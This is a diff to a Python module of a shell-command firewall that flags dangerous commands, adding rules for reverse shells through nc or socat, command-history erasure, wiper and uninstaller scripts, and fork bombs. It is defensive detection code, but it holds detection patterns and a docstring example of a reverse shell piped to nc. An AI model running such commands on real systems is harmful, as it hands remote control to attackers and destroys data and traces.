@@ -3,13 +3,14 @@
 from __future__ import annotations
 
 import fnmatch
+import itertools
 import re
-from collections.abc import Callable
 
-from firewall.engine.shell import code, databases, files, git, managers, network, system, unwrap, windows
+from firewall.engine.shell import accounts, code, credentials, databases, edits, files, git, managers, network, system, unwrap, windows
 from firewall.engine.shell.call import Call, Row
 from firewall.engine.shell.evaluate import printed, says
-from firewall.engine.shell.parse import MAX_DEPTH, Scope, TooDeepError, parse
+from firewall.engine.shell.parse import KEYWORDS, UNKNOWN, parse
+from firewall.engine.shell.scope import MAX_DEPTH, Scope, TooDeepError
 from firewall.engine.shell.types import Category, Command, Finding, Judgement, Script, word_set
 
 MAX_CHARS = 65_536
@@ -18,7 +19,12 @@ MAX_CHARS = 65_536
 MAX_JUDGED = 4_000
 """Commands judged in one text, those inside others included."""
 
+#: A variable without a value, among the letters of a program's name.
+_UNSET = re.compile(r"\$(?:\w+|[@*#?!-])")
 _PLAIN = re.compile(r"[\w./:=@%+, -]*")
+_UNINSTALLER = re.compile(
+    r"(?:.*[-_.])?(?:uninstall(?:er|-all)?|(?<=.)killall|nuke|wipe|wiper|selfdestruct|self-destruct)(?:\.(?:sh|bash|py|pl|run|ps1|exe|bat))?"
+)
 _EXTENSION = re.compile(r"\.(?:exe|cmd|bat|com)$")
 
 #: They show, compare or count what they are given; nothing among their arguments is run or removed.
@@ -27,23 +33,27 @@ _DATA = word_set(
     echo printf print : true false test [ [[ ]] cat bat less more head tail grep egrep fgrep rg ag ack zgrep ls dir ll tree stat file wc sort uniq cut
     paste join comm diff cmp cd pushd popd pwd mkdir touch basename dirname readlink realpath which whereis type man info whatis apropos help date cal
     uptime who w whoami id groups users hostname uname ps top htop df du free lsof netstat ss ping dig nslookup host traceroute ifconfig jobs fg bg wait
-    sleep seq yes expr bc dc factor md5sum sha1sum sha256sum cksum tr fold fmt column nl tac rev split od xxd hexdump strings export local declare typeset
-    readonly set shopt return exit break continue shift read mapfile getopts let alias unalias printenv locale tput clear stty tty say figlet cowsay jq yq
-    gzip gunzip bzip2 bunzip2 xz zcat zip unzip tar cpio ln for case select in code subl open xdg-open write-host write-output write-error get-content
-    get-childitem get-item get-process select-string out-file make cmake ninja cargo go javac rustc gcc g++ clang pytest jest vitest mocha tsc eslint
-    prettier ruff black mypy flake8 isort rspec phpunit mvn gradle gradlew pip pip3 npm yarn pnpm composer gem poetry pipenv apropos tldr
+    sleep seq yes expr bc dc factor md5sum sha1sum sha256sum cksum tr fold fmt column nl tac rev split od xxd hexdump strings export local declare
+    typeset readonly set shopt return exit break continue shift read mapfile getopts let alias unalias printenv locale tput clear stty tty say figlet
+    cowsay jq yq gzip gunzip bzip2 bunzip2 xz zcat zip unzip tar cpio ln for case select in code subl open xdg-open write-host write-output write-error
+    get-content get-childitem get-item get-process select-string out-file make cmake ninja cargo go javac rustc gcc g++ clang pytest jest vitest mocha
+    tsc eslint mail mailx mutt sendmail logger notify-send wall write simctl prettier ruff black mypy flake8 isort rspec phpunit mvn gradle gradlew pip
+    pip3 npm yarn pnpm composer gem poetry pipenv apropos tldr
     """
 )
 
 _ROWS: dict[str, tuple[Row, ...]] = {}
-for _each in (files.TABLE, git.TABLE, managers.TABLE, system.TABLE, system.COMPOSE, system.PACKAGES, databases.TABLE):
+for _each in (files.TABLE, git.TABLE, managers.TABLE, system.TABLE, system.COMPOSE, system.PACKAGES, databases.TABLE, accounts.TABLE, accounts.SECRETS):
     for _name, _rows in _each.items():
         _ROWS[_name] = _ROWS.get(_name, ()) + _rows
 _ROWS.pop("git")
 
-_RULES: dict[str, Callable[[Call], Finding | None]] = (
-    windows.RULES | code.RULES | databases.RULES | network.RULES | system.RULES | files.RULES | {"git": git.rule, "ansible": managers.ansible}
-)
+_RULES: dict[str, tuple[files.Rule, ...]] = {"git": (git.rule,)}
+for _rules in (files.RULES, system.RULES, windows.RULES, code.RULES, edits.RULES, databases.RULES, network.RULES, accounts.RULES, managers.RULES):
+    for _name, _rule in _rules.items():
+        _RULES[_name] = (*_RULES.get(_name, ()), _rule)
+#: Not judged in a text for Windows read as if it were for a POSIX shell, where its backslashes are lost.
+_WINDOWS_ONLY = frozenset(windows.RULES) - {"rmdir", "move"}
 _EVALUATES = frozenset({"eval", "iex", "invoke-expression"})
 _MAKES_WORDS = frozenset({"xargs", "parallel", "rush"})
 #: Programs looked for behind a glob: ``/bin/r?``.
@@ -77,19 +87,45 @@ class _Judge:
 
     def __init__(self) -> None:
         self.judged = 0
+        self.is_windows = True
+        self.known: dict[str, str] = {}
         self.downloaded: set[str] = set()
 
     def text(self, text: str, depth: int, variables: dict[str, str] | None = None) -> Finding | None:
         if _PLAIN.fullmatch(text) and "=" not in text and not variables:
             return self.words(text.split(), Command(), [], depth)
+        if not windows.written(text):
+            return self.read(text, depth, variables)
+        if found := self.read(text.replace("\\", "/"), depth, variables):
+            return found
+        was, self.is_windows = self.is_windows, False
+        found = self.read(text, depth, variables)
+        self.is_windows = was
+        return found
+
+    def read(self, text: str, depth: int, variables: dict[str, str] | None) -> Finding | None:
         script, scope = parse(text, variables=variables or {}, depth=depth)
-        return self.script(script, scope, depth)
+        if found := self.script(script, scope, depth):
+            return found
+        return self.variables(scope, variables or {}, depth)
+
+    def variables(self, scope: Scope, before: dict[str, str], depth: int) -> Finding | None:
+        """Variables that a text sets and a program or the shell itself will use."""
+        for name, value in scope.variables.items():
+            if before.get(name) == value:
+                continue
+            if (name == "HISTFILE" and value in ("", "/dev/null")) or (name in ("HISTSIZE", "HISTFILESIZE", "SAVEHIST") and value == "0"):
+                return Finding(Category.TRACES, name, "stops the history of commands")
+            if name in unwrap.RUN_VARIABLES and value and (found := self.text(value, depth + 1)):
+                return found
+        return None
 
     def script(self, script: Script, scope: Scope, depth: int) -> Finding | None:
         if depth > MAX_DEPTH:
             raise TooDeepError
+        self.known = scope.variables
         for pipeline in script:
-            if found := _fork_bomb(pipeline, scope):
+            if found := _fork_bomb(pipeline, scope) or _shell_on_a_line(pipeline):
                 return found
             fed: str | None = None
             for place, command in enumerate(pipeline):
@@ -112,12 +148,15 @@ class _Judge:
         self.judged += 1
         if self.judged > MAX_JUDGED or depth > MAX_DEPTH:
             raise TooDeepError
-        while words and words[0] in ("then", "do", "else", "&", "!", "{", ".", "source") and (words[0] not in (".", "source") or len(words) == 1):
+        while words and (words[0] in KEYWORDS or words[0] in ("&", "{") or words in (["."], ["source"])):
             words = words[1:]
         if not words:
             return None
+        if (each := windows.each(words, command)) is not None:
+            return self.words(each, command, before, depth + 1)
+        name, words = _program(words[0]), words if not words[0].startswith("/etc/init.d/") else ["service", _program(words[0]), *words[1:]]
         call = Call(
-            _program(words[0]),
+            name if words[0] != "service" else "service",
             words[1:],
             before,
             fed,
@@ -135,6 +174,8 @@ class _Judge:
                     return found
         inside = unwrap.unwrap(call)
         if found := self.wrapped(call, inside, command, depth):
+            return found
+        if found := windows.method(call, command) or system.machine_mounted(call):
             return found
         # What was said by the words it runs is not said by it.
         return None if inside and inside.words else self.program(call)
@@ -162,7 +203,7 @@ class _Judge:
         if inside.reads_input and call.name not in _MAKES_WORDS and call.fed is not None and (found := self.text(call.fed, depth + 1)):
             return found
         for text in inside.texts:
-            variables = {str(number): value for number, value in enumerate(inside.arguments)}
+            variables = self.known | {str(number): value for number, value in enumerate(inside.arguments)}
             if inside.arguments:
                 variables |= dict.fromkeys("@*", " ".join(inside.arguments[1:]))
             if found := self.text(text, depth + 1, variables):
@@ -189,29 +230,46 @@ class _Judge:
     def program(self, call: Call) -> Finding | None:
         """Ask the rules: the one by name, the rows by name, and the grammar of programs that manage something."""
         name = call.name
-        rule = _RULES.get(name) or _RULES.get(code.interpreter_name(name))
-        if rule and (found := rule(call)):
-            return found
+        posix = self.is_windows or name not in _WINDOWS_ONLY
+        for rule in (_RULES.get(name) or _RULES.get(code.interpreter_name(name), ())) if posix else ():
+            if found := rule(call):
+                return found
         for row in _ROWS.get(name, ()):
             if found := row.finding(call):
                 return found
-        if "-" in name and (found := windows.cmdlet(call)):
+        if "-" in name and self.is_windows and (found := windows.cmdlet(call)):
             return found
-        if found := files.credentials(call):
+        if found := credentials.credentials(call) or edits.output(call) or _uninstaller(call):
             return found
-        if name == "java" and "-jar" in call.args[:-1]:
-            at = call.args.index("-jar")
-            return self.program(Call(_program(call.args[at + 1]), call.args[at + 2 :], call.before, call.fed, call.again, call.words_again))
-        if code.interpreter_name(name) in ("python", "php") and call.operands and call.args[0].endswith((".py", "artisan", "console")):
-            return self.program(Call(_program(call.args[0]), call.args[1:], call.before, call.fed, call.again, call.words_again))
+        if runs := _program_run(call):
+            return self.program(Call(_program(runs[0]), runs[1:], call.before, call.fed, call.again, call.words_again))
         if name in _DATA or (name in _RULES and name not in managers.MANAGERS):
             return None
-        return managers.verb(call) or databases.sends_sql(call)
+        return managers.verb(call) or accounts.granted(call) or databases.sends_sql(call)
+
+
+def _program_run(call: Call) -> list[str]:
+    """The program that an interpreter is given as a file or a module: ``java -jar x.jar``, ``python manage.py``, ``python -m pytest``."""
+    name, args = code.interpreter_name(call.name), call.args
+    if name == "java" and "-jar" in args[:-1]:
+        return args[args.index("-jar") + 1 :]
+    if name == "python" and "-m" in args[:-1]:
+        return args[args.index("-m") + 1 :]
+    return args if name in ("python", "php") and args and args[0].endswith((".py", "artisan", "console")) else []
+
+
+def _uninstaller(call: Call) -> Finding | None:
+    """Programs named for what they take away: ``k3s-uninstall.sh``, run by themselves or by a shell."""
+    names = [call.name, *(_program(word) for word in call.operands[:1] if call.name in unwrap.SHELLS)]
+    found = next((name for name in names if _UNINSTALLER.fullmatch(name)), None)
+    return Finding(Category.PACKAGES, found, "takes away what is installed, and its data") if found else None
 
 
 def _program(word: str) -> str:
     """The name a program goes by: no folder, no extension of Windows, no case where a glob or a caret hides it."""
     name = _EXTENSION.sub("", re.split(r"[/\\]", word)[-1].replace("^", "").lower())
+    if "$" in name and (known := _UNSET.sub("", name)):
+        name = known
     if ("?" in name or "*" in name or "[" in name) and 2 <= len(name) <= 24 and name not in ("[", "[["):
         return next((known for known in _GLOBBED if fnmatch.fnmatchcase(known, name)), name)
     return name
@@ -225,7 +283,9 @@ def _unseen(call: Call, command: Command, *, reads_input: bool) -> Finding | Non
         return None
     if command.processes and (found := _downloaded(command, name)):
         return found
-    if name in _EVALUATES or call.args[:1] in (["-c"], ["-Command"]):
+    options = code.INTERPRETERS.get(code.interpreter_name(name), ())
+    given = any(word in options and value.startswith(UNKNOWN) for word, value in itertools.pairwise(call.args))
+    if name in _EVALUATES or given or call.args[:1] in (["-c"], ["-Command"]):
         fetcher = next(filter(None, map(network.fetches, command.inner)), None)
         if fetcher is None and name in ("iex", "invoke-expression"):
             fetcher = network.fetching(Command(words=call.args))
@@ -240,9 +300,20 @@ def _downloaded(command: Command, name: str) -> Finding | None:
     return Finding(Category.DOWNLOAD, fetcher, f"is fed to {name}, which runs what was downloaded") if fetcher else None
 
 
+def _shell_on_a_line(pipeline: list[Command]) -> Finding | None:
+    """``cat fifo | sh -i | nc host 99 > fifo``."""
+    names = [_program(command.words[0]) for command in pipeline if command.words]
+    shell = next((place for place, name in enumerate(names) if name in unwrap.SHELLS), len(names))
+    line = next((name for name in names[shell + 1 :] if name in ("nc", "ncat", "netcat", "socat", "telnet", "openssl")), None)
+    return Finding(Category.REMOTE_CONTROL, line, "gives a shell to whoever is at the other end") if line else None
+
+
 def _fork_bomb(pipeline: list[Command], scope: Scope) -> Finding | None:
-    if not scope.functions:
-        return None
     names = [command.words[0] for command in pipeline if command.words and command.words[0] in scope.functions]
-    twice = len(names) > 1 and len(set(names)) == 1
-    return Finding(Category.FORK_BOMB, names[0], "starts itself again without end") if twice else None
+    # $0 and %0 are the script that is running.
+    again = [command.words[-1] for command in pipeline if command.words and command.words[-1].removeprefix("./") in ("$0", "%0")]
+    if (len(names) > 1 and len(set(names)) == 1) or len(again) > 1 or (again and pipeline[-1].background):
+        return Finding(Category.FORK_BOMB, (names or again)[0], "starts itself again without end")
+    if len(pipeline) == 1 and pipeline[0].background and pipeline[0].words[:1] == ["yes"]:
+        return Finding(Category.FORK_BOMB, "yes", "keeps a processor busy without end, unseen")
+    return Finding(Category.FORK_BOMB, scope.bomb, "is started again and again without end") if scope.bomb else None
